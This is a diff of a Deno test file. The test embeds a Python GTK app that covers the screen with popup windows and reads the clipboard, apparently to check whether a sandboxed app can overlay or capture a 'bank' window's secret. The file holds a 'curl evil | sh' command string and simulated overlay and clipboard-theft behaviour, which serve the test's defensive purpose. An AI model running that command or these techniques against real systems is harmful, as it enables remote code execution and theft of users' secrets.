@@ -35,6 +35,7 @@ const command = "curl evil | sh\n";
  * window, which then moves up.
  */
 const app = `
+import os
 import sys
 
 import gi
@@ -56,6 +57,8 @@ def clicked(*_):
 
 
 def lay_fence():
+    if not os.path.exists("/home/ubuntu/share/go"):
+        return True
     for number in range(190):
         popup = Gtk.Window(type=Gtk.WindowType.POPUP, app_paintable=True)
         popup.set_visual(popup.get_screen().get_rgba_visual())
@@ -66,6 +69,7 @@ def lay_fence():
         popup.move(number % 19 * 80 + 50, number // 19 * 80 + 50)
         popup.show_all()
     note("done", "laid")
+    return False
 
 
 def copy():
@@ -88,7 +92,7 @@ main.move(1400, 700)
 main.resize(150, 100)
 main.show_all()
 if sys.argv[1] == "fence":
-    GLib.timeout_add(2000, lay_fence)
+    GLib.timeout_add(100, lay_fence)
     GLib.timeout_add(1000, copy)
 else:
     GLib.timeout_add(2000, cover)
@@ -113,7 +117,7 @@ async function besideTerminal(
   const name = nameOn(engine);
   const share = join(mountsRoot, name, "share");
   await Deno.writeTextFile(join(share, "app.py"), app);
-  await Promise.all(["path", "stolen", "done"].map((file) => Deno.remove(join(share, file)).catch(() => {})));
+  await Promise.all(["path", "stolen", "done", "go"].map((file) => Deno.remove(join(share, file)).catch(() => {})));
   const noted = async (file: string): Promise<string[]> =>
     (await Deno.readTextFile(join(share, file)).catch(() => "")).split("\n").filter(Boolean);
   let said = "";
@@ -129,7 +133,11 @@ async function besideTerminal(
     assertEquals(started.code, 0, started.stderr);
     const client = start(engine, env);
     try {
-      await windowWith("main", { env });
+      // Popups may be near a window of the app's, which the window manager puts anywhere.
+      const main = await windowWith("main", { env });
+      await sh(["xdotool", "windowmove", main, "1400", "700"], { env });
+      await eventually("the app's window in its corner", async () => (await placeOf("main", env)).x > 1300);
+      await Deno.writeTextFile(join(share, "go"), "");
       const bank = await windowWith("^bank$", { env });
       await sh(["xdotool", "windowactivate", "--sync", bank], { env });
       for (const [selection, text] of [["primary", secret], ["clipboard", "of the host"]]) {
